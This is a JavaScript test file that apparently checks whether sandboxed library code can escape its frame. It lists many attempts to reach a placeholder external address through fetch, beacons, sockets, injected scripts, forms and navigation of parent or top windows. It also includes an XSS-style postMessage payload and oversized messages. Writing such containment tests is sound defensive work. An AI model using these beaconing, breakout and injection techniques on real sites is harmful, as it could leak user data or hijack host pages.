// What a library would try that is not the one it should be; "URL" is an address elsewhere.
const url = "URL", page = parent.parent;
const attempts = [
  () => fetch(url + "/fetch"), () => navigator.sendBeacon(url + "/beacon"), () => { new Image().src = url + "/img"; },
  () => new WebSocket(url.replace("http", "ws") + "/ws"), () => new EventSource(url + "/sse"), () => import(url + "/m.js"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "/worker')"]))), () => eval("page.hit = 1"),
  () => open(url + "/popup"), () => { top.location = url + "/top"; }, () => { page.location = url + "/page"; },
  () => { page.document.title = "hit"; }, () => { page.hit = 1; }, () => { page.localStorage.x = 1; }, () => alert(1),
  () => document.head.append(Object.assign(document.createElement("script"), { src: url + "/script.js" })),
  () => document.head.append(Object.assign(document.createElement("script"), { text: "parent.parent.hit = 1" })),
  () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url + "/x.css" })),
  () => document.body.append(Object.assign(document.createElement("iframe"), { src: url + "/frame" })),
  () => document.body.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=" + url + "/refresh'>"),
  () => { const a = Object.assign(document.createElement("a"), { href: url + "/a", download: "x" }); document.body.append(a); a.click(); },
  () => { const f = Object.assign(document.createElement("form"), { action: url + "/form" }); document.body.append(f); f.submit(); },
  ...[null, 1, "x", [], { type: "json", text: "{}" }, { type: "event", seq: 1, event: {} }, { height: "9px" }, { height: 1e9 },
      { picture: "x" }, { picture: { length: 1 } }, { picture: "PNG".repeat(4e6) }, { fault: "<img src=x onerror=parent.hit=1>" }]
    .map(message => () => page.postMessage(message, "*")),
  () => { parent.location = url + "/outer"; },
  () => { location = url + "/self"; },
];
for (const attempt of attempts) { try { Promise.resolve(attempt()).catch(() => 0); } catch {} }
